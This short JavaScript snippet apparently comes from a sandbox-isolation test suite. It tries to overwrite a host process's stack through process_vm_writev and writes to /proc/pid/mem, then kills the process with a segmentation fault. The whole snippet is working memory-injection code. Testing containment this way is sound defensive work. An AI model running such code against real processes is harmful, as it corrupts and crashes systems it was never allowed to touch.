// Tries: a write into the memory of a process of the host: its stack is overwritten, and it is woken to fall.
// Origin: process_vm_writev and /proc/pid/mem as injection.

const found = [];
let maps = "";
try {
  maps = Deno.readTextFileSync(`/proc/${input.pid}/maps`);
} catch (error) {
  found.push(String(error));
}
const [, start, end] = /([0-9a-f]+)-([0-9a-f]+) .*\[stack\]/.exec(maps) ?? [0, "7ffc00000000", "7ffc00001000"];
const from = parseInt(start, 16);
const size = parseInt(end, 16) - from;
const bytes = new Uint8Array(size).fill(255);
const local = new BigUint64Array([BigInt(native.address(bytes)), BigInt(size)]);
const written = native.call("process_vm_writev", input.pid, local, 1, new BigUint64Array([BigInt(from), BigInt(size)]), 1, 0);
const file = native.call("openat", -100, `/proc/${input.pid}/mem`, 2, 0);
found.push(written, file, native.call("pwrite64", file, bytes, size, from));
if (written > 0 || found.at(-1) > 0) native.call("kill", input.pid, 11);
return found;
